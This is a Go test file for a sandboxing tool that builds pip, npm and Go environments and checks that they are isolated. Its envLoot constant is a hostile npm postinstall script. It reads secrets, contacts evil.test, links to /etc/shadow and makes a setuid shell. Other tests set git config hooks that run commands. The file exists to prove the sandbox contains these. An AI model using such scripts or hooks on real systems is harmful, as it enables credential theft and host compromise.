package spec_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	sdk "github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/bailey-dev/bailey/internal/testkit/netlab"
	"github.com/bailey-dev/bailey/internal/testkit/origin"
	"github.com/bailey-dev/bailey/internal/testkit/yard"
)

// The hosts of the registries, which the package managers of the test's machine
// are configured for.
const (
	pypiHost = "pypi.test"
	npmHost  = "npm.test"
	goHost   = "goproxy.test"
)

// standIn is what the index has for pytest: it runs the functions of tests.
const standIn = `import glob, importlib.util, sys
count = 0
for path in sorted(glob.glob("tests/test_*.py")):
    spec = importlib.util.spec_from_file_location("test%d" % count, path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    for name, f in list(vars(module).items()):
        if name.startswith("test_"):
            f()
            count += 1
print("%d passed" % count)
sys.exit(0 if count else 5)
`

// backend is a project's own builder of wheels, which needs none of an index.
const backend = `import os, zipfile
def build_wheel(out, config=None, metadata=None):
    name = "mine-1-py3-none-any.whl"
    info = "mine-1.dist-info/"
    files = {
        "mine/__init__.py": "raise SystemExit('the installed one')",
        info + "METADATA": "Metadata-Version: 2.1\nName: mine\nVersion: 1\nRequires-Dist: tiny\n",
        info + "WHEEL": "Wheel-Version: 1.0\nGenerator: own\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        info + "entry_points.txt": "[console_scripts]\nmine = mine:main\n",
    }
    files[info + "RECORD"] = "".join(n + ",,\n" for n in files) + info + "RECORD,,\n"
    with zipfile.ZipFile(os.path.join(out, name), "w") as z:
        for n, text in files.items():
            z.writestr(n, text)
    return name
`

// envProject is a project of one kind, and how its tests are run.
type envProject struct {
	kind  string
	files map[string]string
	test  string // the command; it prints passed when all of it worked
}

func envProjects() []envProject {
	return []envProject{
		{
			kind: "python",
			files: map[string]string{
				"pyproject.toml":       "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"tools\"]\n[project]\nname = \"mine\"\nversion = \"1\"\ndependencies = [\"tiny\"]\n[dependency-groups]\nmy-tests = [\"helper\"]\nother = [\"nowhere\"]\n",
				"requirements-dev.txt": "second\n",
				"tools/backend.py":     backend,
				"src/mine/__init__.py": "import tiny\ntext = tiny.text\ndef main():\n    print('main of the work')\n",
				// The project's module is the one of the work, and it is known
				// as installed all the same.
				"tests/test_mine.py": "import os, subprocess, mine, helper, second\nfrom importlib import metadata\n" +
					"def test_text():\n    assert mine.text == '" + clientText + "'\n    assert mine.__file__.startswith(os.getcwd() + '/src/')\n" +
					"    assert metadata.version('mine') == '1'\n    assert subprocess.check_output(['mine']) == b'main of the work\\n'\n",
			},
			test: "python -m pytest",
		},
		{
			kind: "node",
			files: map[string]string{
				"package.json":           `{"name":"mine","version":"1.0.0","type":"commonjs","workspaces":["parts/*"],"dependencies":{"tiny":"^1.0.0"},"scripts":{"test":"tiny-bin && node test.js && node test.mjs"}}`,
				"parts/one/package.json": `{"name":"@mine/one","version":"1.0.0","main":"index.js"}`,
				"parts/one/index.js":     `module.exports = require("tiny") + " by way of one"`,
				"test.js":                `const assert = require("assert"); assert.equal(require("tiny"), "` + clientText + `"); assert.equal(require("@mine/one"), "` + clientText + ` by way of one"); console.log("require passed");`,
				"test.mjs":               `import tiny from "tiny"; if (tiny !== "` + clientText + `") throw new Error(tiny); console.log("import passed");`,
			},
			test: "npm test && npx tiny-bin && tiny-bin && (cd /tmp && node -e 'require(\"tiny\")')",
		},
		{
			kind: "go",
			files: map[string]string{
				"go.mod":  "module mine.test/m\n\ngo 1.20\n\nrequire tiny.test/m v" + origin.Version + "\n",
				"main.go": "// Command m is a test.\npackage main\n\nimport \"tiny.test/m\"\n\nfunc main() { println(m.Text()) }\n",
			},
			test: "go run . 2>&1 | grep '" + clientText + "' && echo passed",
		},
	}
}

// envWorld is a yard whose package managers are configured for registries of
// the lab's.
type envWorld struct {
	*yard.Yard
	lab *netlab.Lab
}

func newEnvWorld(t *testing.T, y *yard.Yard, hostile string) *envWorld {
	t.Helper()
	lab := netlab.New(t)
	lab.Trust()
	for _, host := range []string{pypiHost, npmHost, goHost} {
		lab.Name(host, netlab.Allowed)
	}
	tiny := map[string]string{"tiny.py": "text = '" + clientText + "'\n"}
	lab.Handle(pypiHost, origin.Wheels(t, map[string]map[string]string{
		"tiny": tiny, "helper": {"helper.py": ""}, "second": {"second.py": ""}, "further": {"further.py": ""},
		"pytest": {"pytest/__init__.py": "", "pytest/__main__.py": standIn},
	}))
	lab.Handle(npmHost, origin.Tarballs(t, map[string]origin.Tarball{
		"tiny": {
			Manifest: map[string]any{"main": "index.js", "bin": map[string]string{"tiny-bin": "bin.js"}},
			Files:    map[string]string{"index.js": `module.exports = "` + clientText + `"`, "bin.js": "#!/usr/bin/env node\nconsole.log('bin passed')\n"},
		},
		"hostile": {
			Manifest: map[string]any{"scripts": map[string]string{"postinstall": "sh ./script.sh"}},
			Files:    map[string]string{"script.sh": hostile},
		},
	}))
	lab.Handle(goHost, origin.GoProxy(t, clientText))
	gopath := filepath.Join(goroot(t), "bin")
	y.Wrap = func(cmd *exec.Cmd) {
		lab.Enter(cmd)
		cmd.Env = append(cmd.Env, "PATH=/usr/sbin:/usr/bin:/sbin:/bin:"+gopath, "CANARY=of the caller's environment",
			"PIP_INDEX_URL=https://name:canary@"+pypiHost+"/simple", "npm_config_registry=https://"+npmHost+"/",
			"GOPROXY=https://"+goHost, "GONOSUMDB=*.test/*")
	}
	return &envWorld{Yard: y, lab: lab}
}

// buildTimeout bounds a build: package managers make thousands of files.
const buildTimeout = 6 * time.Minute

// Run is the yard's, with the time that a build may take.
func (w *envWorld) Run(t *testing.T, args ...string) yard.Result {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), buildTimeout)
	defer cancel()
	cmd := w.Command(ctx, args...)
	var out, errs bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errs
	err := cmd.Run()
	if _, ok := errors.AsType[*exec.ExitError](err); err != nil && !ok {
		t.Fatalf("run bailey %s: %v", strings.Join(args, " "), err)
	}
	if ctx.Err() != nil {
		t.Fatalf("bailey %s did not end within %v\n%s%s", strings.Join(args, " "), buildTimeout, out.String(), errs.String())
	}
	return yard.Result{Stdout: out.String(), Stderr: errs.String(), Code: cmd.ProcessState.ExitCode()}
}

// commit makes the workspace a repository with these files.
func (w *envWorld) commit(t *testing.T, files map[string]string) {
	t.Helper()
	for name, text := range files {
		w.Write(t, name, text)
	}
	if _, ok := files["go.mod"]; ok && files["main.go"] != "" {
		w.Run(t, "run", "--quiet", "--preset", "go", "--env", "GOPROXY", "--env", "GONOSUMDB", "--", "go", "mod", "tidy").OK(t) // writes go.sum
	}
	w.Host(t, "git", "init", "-q", ".")
	w.Host(t, "git", "add", "-A")
	w.Host(t, "git", "-c", "user.name=a", "-c", "user.email=a@example.com", "commit", "-q", "-m", "start")
}

// store is the folder of the environments.
func (w *envWorld) store() string { return filepath.Join(w.Home, ".local/share/bailey/envs") }

func (w *envWorld) stored(t *testing.T) []string {
	t.Helper()
	list, err := os.ReadDir(w.store())
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	var out []string
	for _, e := range list {
		out = append(out, e.Name())
	}
	return out
}

// tests runs a project's tests without a network.
func (w *envWorld) tests(t *testing.T, p envProject, flags ...string) yard.Result {
	t.Helper()
	args := append([]string{"run", "--net", "none"}, flags...)
	return w.Run(t, append(args, "--", "sh", "-c", p.test)...)
}

// TestEnv_BuiltThroughTheGateAndUsedOffline: a project of each kind whose tests
// need packages. They fail without an environment; one is built with the real
// pip, npm and go out of registries that nothing but their configuration names;
// then the tests pass without any network. The same again is free, and said.
func TestEnv_BuiltThroughTheGateAndUsedOffline(t *testing.T) {
	t.Parallel()
	for _, p := range envProjects() {
		t.Run(p.kind, func(t *testing.T) {
			// As the other in TestEnv_SeveralKindsAndFurtherPackages.
			y := yard.Root(t)
			w := newEnvWorld(t, y, "")
			w.commit(t, p.files)
			if r := w.tests(t, p); r.Code == 0 { // the twin
				t.Fatalf("the tests pass without an environment: %s", r.Stdout)
			}
			r := w.Run(t, "env", "build").OK(t)
			if !strings.Contains(r.Stdout, "built: work ("+p.kind) {
				t.Errorf("said %q", r.Stdout)
			}
			r = w.tests(t, p, "--environment", "work").OK(t)
			if !strings.Contains(r.Stdout, "passed") {
				t.Errorf("said %q\n%s", r.Stdout, r.Stderr)
			}
			path := strings.TrimSpace(w.Run(t, "env", "path", "work").OK(t).Stdout)
			w.Run(t, "run", "--environment", path, "--", "ls", "/opt/env/"+p.kind).OK(t)
			w.onlyTo(t, netlab.Allowed.String())
			w.again(t, p.kind)
			if out := w.Host(t, "git", "status", "--porcelain"); out != "" {
				t.Errorf("left in the work: %s", out)
			}
		})
	}
}

// onlyTo holds every connection that left to an address.
func (w *envWorld) onlyTo(t *testing.T, addr string) {
	t.Helper()
	n := 0
	for _, conn := range w.lab.Connections() {
		switch to := conn.To.Addr().String(); {
		case to == addr:
			n++
		case conn.To.Port() != 53:
			t.Errorf("%s to %s left the sandbox", conn.Proto, conn.To)
		}
	}
	if n == 0 {
		t.Error("nothing was fetched from the registry")
	}
}

// again: what is there is not built again, and what changed is.
func (w *envWorld) again(t *testing.T, kind string) {
	t.Helper()
	before := len(w.lab.Requests())
	var row struct {
		Key    string `json:"key"`
		Reused bool   `json:"reused"`
		Commit string `json:"commit"`
		Bytes  int64  `json:"bytes"`
	}
	parse := func(r yard.Result) {
		t.Helper()
		if err := json.Unmarshal([]byte(r.OK(t).Stdout), &row); err != nil {
			t.Fatalf("%v: %s", err, r.Stdout)
		}
	}
	w.Write(t, "README", "what is not asked for in lock files")
	w.Host(t, "git", "add", "README")
	w.Host(t, "git", "-c", "user.name=a", "-c", "user.email=a@example.com", "commit", "-q", "-m", "second")
	parse(w.Run(t, "env", "build", "--json"))
	if first := row.Key; !row.Reused || first == "" || row.Bytes == 0 || len(w.lab.Requests()) != before {
		t.Errorf("the same again: %+v, %d requests", row, len(w.lab.Requests())-before)
	}
	if r := w.Run(t, "env", "build").OK(t); !strings.Contains(r.Stdout, "up to date: work") {
		t.Errorf("said %q", r.Stdout)
	}
	if kind != "node" {
		return // it takes long, and is the same
	}
	row.Reused = false
	parse(w.Run(t, "env", "build", "--json", "--rebuild"))
	if row.Reused || len(w.lab.Requests()) == before {
		t.Errorf("--rebuild: %+v, %d requests", row, len(w.lab.Requests())-before)
	}
}

// TestEnv_SeveralKindsAndFurtherPackages: one environment of all kinds, packages
// that no file names, lists. What was installed is the caller's, and everybody
// may read it, since a task's id is another one.
func TestEnv_SeveralKindsAndFurtherPackages(t *testing.T) {
	t.Parallel()
	y := yard.Unprivileged(t)
	w := newEnvWorld(t, y, "")
	all := map[string]string{}
	projects := envProjects()
	// TestEnv_BuiltThroughTheGateAndUsedOffline has it compiled, which takes
	// all of a processor for long.
	projects[2].test = "go list -f '{{.Dir}}' tiny.test/m && echo passed"
	for _, p := range projects {
		maps.Copy(all, p.files)
	}
	w.commit(t, all)
	r := w.Run(t, "env", "build", "--", "further").Exit(t, 125)
	if !strings.Contains(r.Stderr, "--kind") {
		t.Errorf("packages of an unknown kind: %s", r.Stderr)
	}
	w.Run(t, "env", "build", "--kind", "node", "--kind", "go", "--name", "all").OK(t)
	w.Run(t, "env", "build", "--kind", "python", "--name", "py", "--", "further").OK(t)
	for i, p := range projects {
		name := []string{"py", "all", "all"}[i]
		w.tests(t, p, "--environment", name).OK(t)
		w.checked(t, p, filepath.Join(w.store(), name))
	}
	w.Run(t, "run", "--environment", "py", "--", "python", "-c", "import further, tiny").OK(t)
	w.Run(t, "run", "--environment", "all", "--", "python3", "-c", "import further").Exit(t, 1) // twin
	if r := w.Run(t, "env", "ls").OK(t); !strings.Contains(r.Stdout, "node, go") || !strings.Contains(r.Stdout, "\npy ") {
		t.Errorf("listed: %s", r.Stdout)
	}
	err := filepath.Walk(w.store(), func(path string, info os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		if st, ok := info.Sys().(*syscall.Stat_t); !ok || int(st.Uid) != w.UID {
			t.Errorf("%s is not the caller's", path)
		}
		if info.Mode().IsRegular() && strings.Contains(path, "/root/") && info.Mode().Perm()&0o444 != 0o444 {
			t.Errorf("%s has mode %v", path, info.Mode())
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	w.Run(t, "env", "rm", "all", "py").OK(t)
	if left := w.stored(t); len(left) != 0 {
		t.Errorf("left in the store: %q", left)
	}
	w.Run(t, "run", "--environment", "all", "--", "true").Exit(t, 125)
}

// checked runs a project's tests as a check does: at another place, by an id
// that owns nothing, without a way out.
func (w *envWorld) checked(t *testing.T, p envProject, environment string) {
	t.Helper()
	alone := *w.Yard // a runner has no use for the lab
	path := "PATH=/usr/sbin:/usr/bin:/sbin:/bin:" + filepath.Join(goroot(t), "bin")
	alone.Wrap = func(cmd *exec.Cmd) { cmd.Env = append(cmd.Env, path) }
	settings := map[string]any{"command": p.test, "environment": environment}
	if e, out, errs := startTask(t, &alone, settings).wait(t); e.ExitCode != 0 || !strings.Contains(out, "passed") {
		t.Errorf("%s, as a check: %+v\n%s%s", p.kind, e, out, errs)
	}
	delete(settings, "environment")
	if e, out, _ := startTask(t, &alone, settings).wait(t); e.ExitCode == 0 || e.Error != "" { // the twin
		t.Errorf("%s, as a check without an environment: %+v\n%s", p.kind, e, out)
	}
	settings["environment"] = w.Home
	if e, out, _ := startTask(t, &alone, settings).wait(t); e.ExitCode != 125 || e.Error == "" || out != "" {
		t.Errorf("%s, with the home for an environment: %+v\n%s", p.kind, e, out)
	}
}

// TestEnv_RunChecks: a planner's checks have the environment that they name, and
// no other folder.
func TestEnv_RunChecks(t *testing.T) {
	t.Parallel()
	y := yard.Unprivileged(t)
	y.Dir = filepath.Join(y.Home, "work") // where tasks may have repositories
	y.WriteHome(t, "work/README", "")
	w := newEnvWorld(t, y, "")
	p := envProjects()[1]
	w.commit(t, p.files)
	w.Host(t, "git", "branch", "-M", "main")
	w.Run(t, "env", "build").OK(t)
	ctx, cancel := context.WithCancel(context.WithoutCancel(t.Context()))
	t.Cleanup(cancel)
	cmd := w.Command(ctx, "mcp")
	cmd.Stderr = os.Stderr
	session, err := sdk.NewClient(&sdk.Implementation{Name: "planner", Version: "1"}, nil).Connect(ctx, &sdk.CommandTransport{Command: cmd, TerminateDuration: time.Second}, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = session.Close()
		stop, done := context.WithTimeout(ctx, time.Minute)
		defer done()
		_ = w.Command(stop, "serve", "stop").Run() // it may have ended by itself
	})
	for environment, want := range map[string]string{
		"work": "passed on", filepath.Join(w.store(), "work"): "passed on", "": "FAILED on", "none": "no environment", w.Home: "not an environment",
	} {
		arguments := map[string]any{"repo_path": w.Dir, "branch": "main", "command": "node test.js"}
		if environment != "" {
			arguments["environment"] = environment
		}
		r, err := session.CallTool(ctx, &sdk.CallToolParams{Name: "run_checks", Arguments: arguments})
		if err != nil {
			t.Fatal(err)
		}
		text, err := json.Marshal(r.Content)
		if err != nil || !strings.Contains(string(text), want) {
			t.Errorf("environment %q: %s, want %q (%v)", environment, text, want, err)
		}
	}
}

// envLoot has an install script look for what it is not to have, in the
// package's folder; then it plants what would act on the host or on whoever
// uses the environment.
const envLoot = `exec >loot 2>&1
env
cat HOME/secret WORK/.env
ls -la WORK HOME /opt/env.src
echo x >WORK/planted; echo x >/opt/env.src/planted
curl -sS --max-time 20 https://evil.test/ || wget -q -T 20 -O - https://evil.test/
ln -s /etc/shadow shadow
ln -s ../../../../../../etc up
ln -s a/../../../../../../etc through; mkdir -p d; ln -s ../.. d/back
ln -s HOME home
ln -s /usr/bin/env fine
mkfifo pipe
cp /bin/sh suid; chmod 4755 suid
chmod 0 script.sh
mkdir -m 0 closed
printf x >"$(printf 'name\033[2J')"
exit 0
`

// TestEnv_InstallScriptsAreInside: what a package's script finds, and leaves.
func TestEnv_InstallScriptsAreInside(t *testing.T) {
	t.Parallel()
	yard.Each(t, func(t *testing.T, y *yard.Yard) {
		places := strings.NewReplacer("HOME", y.Home, "WORK", y.Dir)
		w := newEnvWorld(t, y, places.Replace(envLoot))
		w.commit(t, map[string]string{"package.json": `{"name":"mine","version":"1.0.0","dependencies":{"hostile":"*"}}`, ".gitignore": ".env\n"})
		w.WriteHome(t, "secret", "canary of the home")
		w.Write(t, ".env", "canary of the work")
		r := w.Run(t, "env", "build").OK(t)
		tree := filepath.Join(w.store(), "work/root/node/node_modules/hostile")
		loot, err := os.ReadFile(filepath.Join(tree, "loot"))
		if err != nil {
			t.Fatalf("the script did not run: %v\n%s", err, r.Stderr)
		}
		if !strings.Contains(string(loot), "npm_lifecycle_event=postinstall") { // the twin: it found its environment
			t.Errorf("the script found no environment: %s", loot)
		}
		for _, never := range []string{"canary", "of the caller", netlab.Evil.String()} {
			if strings.Contains(string(loot), never) {
				t.Errorf("the script found %q:\n%s", never, loot)
			}
		}
		w.onlyTo(t, netlab.Allowed.String())
		for _, path := range []string{filepath.Join(w.Dir, "planted"), filepath.Join(w.store(), "work/copy")} {
			if _, err := os.Lstat(path); err == nil {
				t.Errorf("%s is there", path)
			}
		}
		w.planted(t, tree)
		for _, what := range []string{"links that lead out of the environment were taken out", "names that are no text"} {
			if !strings.Contains(r.Stderr, what) {
				t.Errorf("not said: %s\n%s", what, r.Stderr)
			}
		}
		if strings.Contains(r.Stderr, "\x1b[2J") {
			t.Errorf("a name reached the terminal: %q", r.Stderr)
		}
	})
}

// planted looks at what the script left.
func (w *envWorld) planted(t *testing.T, tree string) {
	t.Helper()
	list, err := os.ReadDir(tree)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]os.FileMode{}
	for _, e := range list {
		info, err := e.Info()
		if err != nil {
			t.Fatal(err)
		}
		got[e.Name()] = info.Mode()
	}
	for _, name := range []string{"shadow", "up", "through", "home", "pipe", "name\x1b[2J"} {
		if mode, ok := got[name]; ok {
			t.Errorf("%q is there: %v", name, mode)
		}
	}
	for name, want := range map[string]os.FileMode{
		"fine": os.ModeSymlink | 0o777, "suid": 0o755, "script.sh": 0o644, "closed": os.ModeDir | 0o755, "d": os.ModeDir | 0o755,
	} {
		if got[name] != want {
			t.Errorf("%s is %v, want %v", name, got[name], want)
		}
	}
}

// TestEnv_NobodyInsideWritesIt: an environment in use cannot be changed by who
// uses it, and its manifest is not there at all.
func TestEnv_NobodyInsideWritesIt(t *testing.T) {
	t.Parallel()
	y := yard.Unprivileged(t)
	w := newEnvWorld(t, y, "")
	p := envProjects()[2]
	w.commit(t, p.files)
	w.Run(t, "env", "build").OK(t)
	r := w.Run(t, "run", "--environment", "work", "--", "sh", "-c",
		`for f in /opt/env/x /opt/env/go/mod/x /opt/env/env.json; do (echo x >"$f") 2>/dev/null && echo "wrote $f"; done
			chmod -R u+w /opt/env/go/mod 2>/dev/null && echo chmod; cat /opt/env/env.json /opt/env/../env.json 2>/dev/null; ls /opt/env; echo x >inside && cat inside`).OK(t)
	if r.Stdout != "go\nx\n" {
		t.Errorf("said %q", r.Stdout)
	}
	running := w.Start(t, "run", "--environment", "work", "--", "sh", "-c", "echo ready; cat; ls /opt/env/go/mod >/dev/null && echo still there")
	running.Await(t, "ready")
	r = w.Run(t, "env", "rm", "work").Exit(t, 125)
	if !strings.Contains(r.Stderr, "in use") {
		t.Errorf("said %q", r.Stderr)
	}
	w.Run(t, "env", "build", "--rebuild").OK(t)
	if err := running.Stdin.Close(); err != nil {
		t.Fatal(err)
	}
	if r := running.Wait(t, time.Minute); r.Code != 0 || !strings.Contains(r.Stdout, "still there") {
		t.Errorf("a rebuild took the environment from under its user: %d %s %s", r.Code, r.Stdout, r.Stderr)
	}
	w.Run(t, "env", "rm", "work").OK(t)
}

// TestEnv_OnlyWhatWasBuilt: no other folder of the host is mounted by
// --environment, whatever lies in it.
func TestEnv_OnlyWhatWasBuilt(t *testing.T) {
	t.Parallel()
	y := yard.Root(t)
	w := newEnvWorld(t, y, "")
	w.commit(t, envProjects()[2].files)
	w.Run(t, "env", "build").OK(t)
	built := filepath.Join(w.store(), "work")
	w.Run(t, "run", "--environment", built, "--", "true").OK(t) // the twin
	w.Host(t, "cp", "-r", built, "copied")
	w.Host(t, "ln", "-s", filepath.Join(w.Dir, "copied"), filepath.Join(w.store(), "linked"))
	for _, asked := range []string{"/", "/etc", w.Home, filepath.Join(w.Dir, "copied"), "./copied", "copied", filepath.Join(built, "root"), built + "/../work", "linked", "..", "none"} {
		if r := w.Run(t, "run", "--environment", asked, "--", "true"); r.Code != 125 {
			t.Errorf("%s: ended with %d", asked, r.Code)
		}
	}
}

// TestEnv_AFailedBuildLeavesNothing: and says what the package manager said.
func TestEnv_AFailedBuildLeavesNothing(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name  string
		files map[string]string
		flags []string
		says  string
	}{
		{"pip, no such package", map[string]string{"requirements.txt": "nowhere\n"}, nil, "No matching distribution found for nowhere"},
		{"npm, no such package", map[string]string{"package.json": `{"name":"mine","version":"1.0.0","dependencies":{"nowhere":"*"}}`}, nil, "404"},
		{"go, no such module", map[string]string{"go.mod": "module mine.test/m\n\ngo 1.20\n\nrequire nowhere.test/m v1.0.0\n"}, nil, "nowhere.test/m"},
		{"a host that is not the registry's", map[string]string{"package.json": `{"name":"mine","version":"1.0.0","dependencies":{"x":"https://evil.test/x.tgz"}}`}, nil, "evil.test"},
		{"too large", map[string]string{"package.json": `{"name":"mine","version":"1.0.0","dependencies":{"hostile":"*"}}`}, []string{"--disk", "20M"}, "--disk raises it"},
		{"too late", map[string]string{"package.json": `{"name":"mine","version":"1.0.0","dependencies":{"hostile":"*"}}`}, []string{"--timeout", "8s"}, "deadline"},
	} {
		t.Run(c.name, func(t *testing.T) {
			y := yard.Unprivileged(t)
			script := "head -c 60M /dev/zero >big; cat"
			if c.name == "too late" {
				script = "sleep 600"
			}
			w := newEnvWorld(t, y, script)
			w.commit(t, c.files)
			r := w.Run(t, append([]string{"env", "build"}, c.flags...)...).Exit(t, 1)
			if !strings.Contains(r.Stderr, c.says) || !strings.Contains(r.Stderr, "nothing of it is left") {
				t.Errorf("said %s, want %q", r.Stderr, c.says)
			}
			if left := w.stored(t); len(left) != 0 {
				t.Errorf("left in the store: %q", left)
			}
		})
	}
}

// TestEnv_WhatIsCommittedIsBuilt: nothing else enters, and no setting of the
// repository has a say: no program of its configuration runs on the host, and
// no attribute leaves out a file.
func TestEnv_WhatIsCommittedIsBuilt(t *testing.T) {
	t.Parallel()
	y := yard.Unprivileged(t)
	w := newEnvWorld(t, y, "")
	ran := filepath.Join(w.Home, "ran")
	w.Write(t, "requirements.txt", "tiny\n") // not committed below
	w.Host(t, "git", "init", "-q", ".")
	r := w.Run(t, "env", "build").Exit(t, 1)
	if !strings.Contains(r.Stderr, "no commit yet") {
		t.Errorf("without a commit: %s", r.Stderr)
	}
	files := map[string]string{
		".gitattributes": "package.json export-ignore filter=evil\n* export-subst\n", "package.json": `{"dependencies":{"tiny":"*"}}`, "sub/package.json": `{"dependencies":{"hostile":"*"}}`,
	}
	for name, text := range files {
		w.Write(t, name, text)
	}
	w.Host(t, "git", "add", ".gitattributes", "package.json", "sub")
	w.Host(t, "git", "-c", "user.name=a", "-c", "user.email=a@example.com", "commit", "-q", "-m", "start")
	evil := "touch " + ran + "; cat"
	for _, kv := range [][2]string{{"core.fsmonitor", evil}, {"filter.evil.smudge", evil}, {"core.sshCommand", evil}, {"tar.tar.command", evil}, {"core.pager", evil}} {
		w.Host(t, "git", "config", kv[0], kv[1])
	}
	r = w.Run(t, "env", "build").Exit(t, 125)
	if !strings.Contains(r.Stderr, "no python project") {
		t.Errorf("with a requirements.txt that is not committed: %s", r.Stderr)
	}
	w.Run(t, "env", "build", "--kind", "node").OK(t)
	w.Run(t, "run", "--environment", "work", "--", "node", "-e", "require('tiny')").OK(t)
	w.Run(t, "env", "build", "--repo", "sub").OK(t)
	w.Run(t, "run", "--environment", "sub", "--", "ls", "/opt/env/node/node_modules/hostile/script.sh").OK(t)
	if _, err := os.Lstat(ran); err == nil {
		t.Error("a command of the repository's configuration ran on the host")
	}
	w.Host(t, "git", "status") // the twin
	if _, err := os.Lstat(ran); err != nil {
		t.Error("the twin: git on the host does not run it either")
	}
	r = w.Run(t, "env", "build", "--repo", w.Home).Exit(t, 125)
	if !strings.Contains(r.Stderr, "no git repository") {
		t.Errorf("no repository: %s", r.Stderr)
	}
}
